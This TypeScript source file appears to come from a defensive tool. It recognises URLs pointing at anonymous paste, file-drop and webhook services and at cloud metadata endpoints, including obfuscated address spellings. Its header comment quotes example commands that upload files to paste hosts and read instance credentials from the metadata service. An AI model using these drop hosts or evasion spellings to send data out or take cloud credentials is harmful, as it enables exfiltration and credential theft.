/**
 * Places a URL can name that say what sending there means (docs/adr/0306, 0308):
 * - drop hosts: anonymous paste and file-share services, request catchers and bot APIs, whose only use for an
 *   upload is to make it readable elsewhere (`curl -F f=@x 0x0.st`, `nc termbin.com 9999`);
 * - cloud metadata endpoints: the instance's own credentials (`curl 169.254.169.254/latest/meta-data/iam/…`), in
 *   any spelling of the address (decimal, hex, octal, IPv4-mapped IPv6, wildcard-DNS names).
 */

/** Hosts (and their subdomains) whose purpose is to receive data for someone else to fetch. */
const DROP_HOSTS: readonly string[] = [
  "transfer.sh",
  "0x0.st",
  "ix.io",
  "termbin.com",
  "sprunge.us",
  "clbin.com",
  "paste.rs",
  "pastebin.com",
  "hastebin.com",
  "hastebin.skyra.pw",
  "dpaste.com",
  "dpaste.org",
  "paste.ee",
  "paste.c-net.org",
  "pastes.dev",
  "rentry.co",
  "ghostbin.site",
  "file.io",
  "catbox.moe",
  "temp.sh",
  "bashupload.com",
  "oshi.at",
  "tmpfiles.org",
  "uguu.se",
  "gofile.io",
  "filebin.net",
  "keep.sh",
  "pixeldrain.com",
  "anonfiles.com",
  "free.keep.sh",
  "send.vis.ee",
  "webhook.site",
  "requestbin.net",
  "requestbin.com",
  "pipedream.net",
  "hookbin.com",
  "beeceptor.com",
  "requestcatcher.com",
  "interact.sh",
  "interactsh.com",
  "oast.pro",
  "oast.live",
  "oast.site",
  "oast.online",
  "oast.fun",
  "oast.me",
  "oastify.com",
  "burpcollaborator.net",
  "canarytokens.com",
  "api.telegram.org",
];
/** Webhook endpoints under a general host: a path prefix. */
const DROP_PATHS: readonly (readonly [string, RegExp])[] = [
  ["discord.com", /^\/api\/webhooks\//],
  ["discordapp.com", /^\/api\/webhooks\//],
  ["ptb.discord.com", /^\/api\/webhooks\//],
  ["canary.discord.com", /^\/api\/webhooks\//],
];

/** A URL or a bare `host[:port][/path]` as a URL, or null when it is not one. */
export function asUrl(word: string): URL | null {
  // What follows an expansion is not known here; the host before it is (`http://169.254.170.2$URI`).
  const known = word.replace(/[$`].*$/s, "");
  const text = /^[a-z][a-z0-9+.-]*:\/\//i.test(known) ? known : `http://${known}`;
  try {
    return new URL(text);
  } catch {
    return null;
  }
}

function under(host: string, domain: string): boolean {
  return host === domain || host.endsWith(`.${domain}`);
}

/** The drop service a URL names, or null. */
export function dropHost(url: string): string | null {
  const u = asUrl(url);
  if (u === null) return null;
  const host = u.hostname.toLowerCase().replace(/\.$/, "");
  const named = DROP_HOSTS.find((d) => under(host, d));
  if (named !== undefined) return named;
  const hook = DROP_PATHS.find(([d, path]) => under(host, d) && path.test(u.pathname));
  return hook === undefined ? null : `${hook[0]} webhook`;
}

/** Metadata services by name: GCP's, Azure's and Alibaba's names and the AWS IPv6 endpoint. */
const METADATA_NAMES = new Set([
  "metadata.google.internal",
  "metadata.goog",
  "metadata",
  "[fd00:ec2::254]",
  "[fd00:ec2::23]",
]);
/** Wildcard-DNS services that resolve a name to the address written in it (`169.254.169.254.nip.io`). */
const WILDCARD_DNS =
  /(?:^|[.-])(\d{1,3})[.-](\d{1,3})[.-](\d{1,3})[.-](\d{1,3})\.(?:nip\.io|sslip\.io|xip\.io|traefik\.me|localtest\.me)$/;

/** Whether an IPv4 address (dotted, as URL normalizes it) is link-local or a known metadata address. */
function metadataV4(a: number, b: number, c: number, d: number): boolean {
  // 169.254.0.0/16 holds AWS, GCP, Azure, OCI, DigitalOcean and ECS/EKS task credentials; 100.100.100.200 is Alibaba's.
  return (a === 169 && b === 254) || (a === 100 && b === 100 && c === 100 && d === 200);
}

/** The metadata endpoint a URL or bare host names, as the client would reach it, or null. */
export function metadataEndpoint(word: string, bareNames: boolean): string | null {
  const u = asUrl(word);
  if (u === null) return null;
  const host = u.hostname.toLowerCase().replace(/\.$/, "");
  const scheme = /^[a-z][a-z0-9+.-]*:\/\//i.test(word);
  if (METADATA_NAMES.has(host) && (scheme || bareNames || host !== "metadata")) return host;
  const v4 = /^(\d+)\.(\d+)\.(\d+)\.(\d+)$/.exec(host) ?? WILDCARD_DNS.exec(host);
  if (v4 !== null) {
    const [a, b, c, d] = v4.slice(1, 5).map(Number) as [number, number, number, number];
    return metadataV4(a, b, c, d) ? host : null;
  }
  // IPv4-mapped IPv6: `[::ffff:169.254.169.254]`, normalized to `[::ffff:a9fe:a9fe]`.
  const mapped = /^\[::ffff:([0-9a-f]{1,4}):([0-9a-f]{1,4})\]$/.exec(host);
  if (mapped !== null) {
    const hi = Number.parseInt(mapped[1]!, 16);
    const lo = Number.parseInt(mapped[2]!, 16);
    return metadataV4(hi >> 8, hi & 255, lo >> 8, lo & 255) ? host : null;
  }
  return null;
}
